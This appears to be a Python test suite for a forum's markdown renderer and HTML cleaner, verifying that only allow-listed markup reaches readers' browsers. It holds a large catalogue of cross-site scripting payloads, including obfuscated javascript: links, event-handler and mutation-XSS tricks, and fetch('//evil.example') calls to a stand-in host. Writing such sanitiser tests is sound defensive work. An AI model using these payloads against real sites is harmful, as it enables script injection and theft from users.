"""Whatever is typed, only what our renderer writes reaches a reader's browser."""

import re
from html import unescape
from html.parser import HTMLParser
from itertools import product
from urllib.parse import unquote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from forum.text.cleaning import clean
from forum.text.excerpts import plain
from forum.text.limits import TextRefused
from forum.text.markdown import nobody, render

# Written down here anew, so that a change of the allow-list is noticed.
ALLOWED = {
    "a": {"href", "rel", "class", "dir"},
    "blockquote": {"dir"},
    "br": set(),
    "code": set(),
    "div": {"class", "tabindex", "role", "aria-label"},
    "em": set(),
    "h4": {"dir"},
    "h5": {"dir"},
    "h6": {"dir"},
    "hr": set(),
    "li": {"dir", "value"},
    "ol": {"dir", "start"},
    "p": {"dir", "class"},
    "pre": {"dir", "tabindex"},
    "s": set(),
    "strong": set(),
    "table": {"dir"},
    "tbody": set(),
    "td": {"dir", "class"},
    "th": {"dir", "class"},
    "thead": set(),
    "tr": set(),
    "ul": {"dir"},
}
CLASSES = {"mention", "table-scroll", "code-language", "to-start", "to-center", "to-end", ""}

SCRIPTS = [
    "alert(1)",
    "fetch('//evil.example')",
]
ADDRESSES = [
    "javascript:{0}",
    "JAVASCRIPT:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "\x01javascript:{0}",
    " javascript:{0}",
    "javascript&colon;{0}",
    "&#106;avascript:{0}",
    "&#x6A&#x61vascript:{0}",
    "jav&#x09;ascript:{0}",
    "javascript\\:{0}",
    "%6Aavascript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload={0}>",
    "vbscript:{0}",
    "feed:javascript:{0}",
    "view-source:javascript:{0}",
    "blob:https://evil.example/{0}",
    "filesystem:https://evil.example/{0}",
    "//evil.example/{0}",
    "\\\\evil.example\\{0}",
    "/\\evil.example/{0}",
    'https://evil.example/" onmouseover="{0}',
    "https://evil.example/' onmouseover='{0}",
    "https://evil.example/><script>{0}</script>",
    "/people/../accounts/logout/?{0}",
    "/people/00000000-0000-0000-0000-000000000000/x?{0}",
]
IN_LINKS = [
    "[x]({0})",
    "[x](<{0}>)",
    "![x]({0})",
    "![x](<{0}>)",
    "[![x]({0})]({0})",
    "<{0}>",
    "{0}",
    "[x]: {0}\n\n[x]",
    '[x](https://x.example "{0}")',
    "[{0}](https://x.example)",
    "|{0}|\n|-|\n|[x]({0})|",
    "```{0}\n{0}\n```",
    "`{0}`",
    "> # [x]({0})",
]
HTML = [
    "<script>{0}</script>",
    "<ScRiPt src=//evil.example>{0}</ScRiPt>",
    "<script\n>{0}",
    "<img src=x onerror={0}>",
    "<img src=//evil.example/t.gif>",
    "<svg onload={0}>",
    "<svg><set attributeName=href to=javascript:{0}>",
    "<math><mtext><style><img src=x onerror={0}>",
    "<math href=javascript:{0}>x",
    "<iframe srcdoc='<script>{0}</script>'>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><button>x",
    "<input autofocus onfocus={0}>",
    "<details open ontoggle={0}>",
    "<body onload={0}>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example';</style>",
    "<div style='background:url(javascript:{0})' id=x class=mention hx-get=/x data-hx-on='{0}'>x",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<?xml version='1.0'?><x onclick={0}>",
    "<a href='javascript:{0}' onclick={0}>x</a>",
    "<a href='//evil.example/{0}'>x</a>",
    "<a href=/accounts/logout/ class=other rel=opener>{0}</a>",
    "<p dir=ltr onclick={0}>x</p>",
    "<video><source onerror={0}></video>",
    "<marquee onstart={0}>x",
    "<x tabindex=1 onfocus={0}>",
    "<table><td background='javascript:{0}'>",
    "<textarea><img title='</textarea><img src=x onerror={0}>'>",
    "<ol start='1\" onclick={0}'><li value=x>",
]
IN_TEXT = [
    "{0}",
    "a {0} b",
    "> {0}",
    "- {0}",
    "# {0}",
    "|a|\n|-|\n|{0}|",
    "**{0}**",
    "\n\n{0}\n\n*x*",
    "[{0}](https://x.example)",
]

CORPUS = [
    place.format(payload.format(script))
    for payloads, places in ((ADDRESSES, IN_LINKS), (HTML, IN_TEXT))
    for payload, place, script in product(payloads, places, SCRIPTS)
]


class Faults(HTMLParser):
    """Everything in the HTML that our renderer does not write."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._look_at(tag, name, value or "")

    def _look_at(self, tag, name, value):
        if name not in ALLOWED.get(tag, set()):
            self.found.append(f"<{tag} {name}>")
        if name == "href" and not value.startswith(("http://", "https://", "mailto:")):
            self.found.append(f"href {value}")
        if name == "rel" and value != "nofollow ugc noopener":
            self.found.append(f"rel {value}")
        if name == "class" and value not in CLASSES:
            self.found.append(f"class {value}")

    def handle_comment(self, data):
        self.found.append("comment")

    def handle_decl(self, decl):
        self.found.append("declaration")

    def handle_pi(self, data):
        self.found.append("instruction")


def faults(html: str) -> list[str]:
    return Faults(html).found


def test_the_inspector_sees_what_is_wrong():
    wrong = '<b>x</b><p onclick="x" class="y">x</p><a href="javascript:x" rel="opener">x</a><!--x-->'
    assert faults(wrong) == ["<b>", "<p onclick>", "class y", "href javascript:x", "rel opener", "comment"]


def test_nothing_of_the_corpus_comes_through_the_renderer():
    assert len(CORPUS) > 1000
    for source in CORPUS:
        html = render(source, mentions=nobody).html
        assert faults(html) == [], source
        assert clean(html) == html, source


def test_nothing_of_the_corpus_comes_through_the_cleaner_alone():
    for source in CORPUS:
        html = clean(source)
        assert faults(html) == [], source
        assert clean(html) == html, source


def test_raw_html_can_be_read():
    for payload in HTML:
        source = payload.format("alert(1)").replace("\n", " ")  # a new line may begin a quote
        words = "".join(source.split())
        assert words in "".join(plain(render(f"x {source}", mentions=nobody).html).split())


PIECES = st.sampled_from(
    [*"<>/='\"&;[]()!*_`#|-:\\\n ", "script", "img", "a", "p", "table", "td", "svg", "math", "style", "noscript",
     "<!--", "-->", "<![CDATA[", "</", "onload=x", "href=", "javascript:", "https://x.example",
     "class=mention", "&lt;", "&#0;"]
)  # fmt: skip


@settings(derandomize=True, max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_cleaning_twice_changes_nothing(text):
    once = clean(text)
    assert clean(once) == once
    assert faults(once) == []


WORDS = st.sampled_from(["border", "hall", "queue", "staff", "visa", "мост", "جسر", "über"])
MARKS = st.sampled_from(
    [*"#>-*_`|~[]()!<&;\\:\"'\n ", "\n\n", "\n> ", "\n- ", "\n1. ", "\n7) ", "\n# ", "\n    ", "\n\t",
     "**", "***", "~~", "```", "\n```\n", "\n~~~ ",
     "\n---\n", "\n===\n", "\n|-|-|\n", "\n|-|\n", "|",
     "](https://x.example)", "](https://x.example/", "](", "![", '](https://x.example "', '")', "]: ",
     "]: https://x.example ", "\n[",
     "<!--", "-->", "<b>", "</", "<https://x.example/", "&copy", "@", "www.", ".example", "://", "  \n"]
)  # fmt: skip


@settings(derandomize=True, max_examples=1_000, deadline=None)
@given(st.lists(st.one_of(MARKS, WORDS), max_size=60))
def test_every_word_typed_is_in_the_output(pieces):
    numbered = [f"{piece}x{place}z" if piece.isalpha() else piece for place, piece in enumerate(pieces)]
    try:
        html = render("".join(numbered), mentions=nobody).html
    except TextRefused:
        return
    seen = plain(html) + addresses(html)
    words = [piece for piece, before in zip(numbered, pieces, strict=True) if before.isalpha()]
    assert [word for word in words if word not in seen] == []


def addresses(html: str) -> str:
    """Where the links lead: an address is followed, not read."""
    return unquote(unescape(" ".join(re.findall('href="([^"]*)"', html))))


@pytest.mark.parametrize("source", ["&#0;", "\ufffe", "a\u2028b", "\x1b[31m", "\u202eabc", "𝒳" * 100, "a\u0301" * 100])
def test_odd_characters_do_no_harm(source):
    assert faults(render(source, mentions=nobody).html) == []
